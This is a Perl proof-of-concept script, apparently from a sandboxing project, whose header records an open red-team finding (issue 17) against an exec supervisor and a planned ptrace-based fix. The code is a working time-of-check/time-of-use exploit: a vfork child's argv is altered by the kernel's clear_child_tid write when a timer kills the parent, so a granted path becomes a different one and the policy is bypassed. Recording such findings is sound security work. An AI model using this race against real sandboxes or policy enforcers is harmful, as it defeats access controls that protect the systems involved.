# An OPEN weakness of the exec supervisor (issue 17), found by a red team on 2026-12-02;
# not run by tests/run. A vfork child's exec is stopped for the supervisor while its
# single-threaded parent is blocked in vfork; when the parent dies then (a timer's
# SIGALRM here), the kernel writes 4 zero bytes at the parent's clear_child_tid
# (set_tid_address), into the memory the child still shares, after the supervisor
# read the arguments and before the kernel copies them. A robust futex list is a
# second writer of the same kind. Result on 2026-12-02: touch, granted only for
# /workspace/out/allowed, creates /workspace/out/all within 1-55 attempts.
# The fix planned: verify a shared-memory exec after the fact, at a ptrace
# PTRACE_EVENT_EXEC stop before the new program runs (/proc/PID/exe and the argv the
# kernel copied), and kill it on a mismatch. Run (as root, workspace owned by a
# non-root uid and group, a policy granting perl and touch {operands: {globs:
# [/workspace/out/allowed]}}, --allow-write 'out/**'):
#   gantry sandbox exec --workspace WS --rules POLICY --principal tools \
#       --allow-write 'out/**' --wall-ms 60000 -- perl /workspace/vfork_exit_race.pl 1000
my $n = $ARGV[0] || 1000;
for my $i (0..$n-1) {
  my $d = 50 + int(3000*$i/$n);
  my $w = fork();
  if ($w == 0) {
    my $buf = "/workspace/out/allowed"; $buf .= "";
    my $path = "/usr/bin/touch"; my $a0 = "touch";
    my $argv = pack("ppQ", $a0, $buf, 0);
    my $addr = unpack("Q", pack("p", $buf));
    syscall(218, $addr + 18);                 # set_tid_address(&buf[18]) -> "owed"
    my $it = pack("qqqq", 0, 0, 0, $d);
    syscall(38, 0, $it, 0);                   # setitimer: SIGALRM kills us in d us
    my $r = syscall(58);                      # vfork
    if ($r == 0) { syscall(59, $path, $argv, 0); syscall(60, 127); }
    syscall(60, 0);
  }
  waitpid($w, 0);
  if (-e "/workspace/out/all") { print "SUCCESS i=$i delay=$d\n"; exit 0 }
}
print "no success\n";
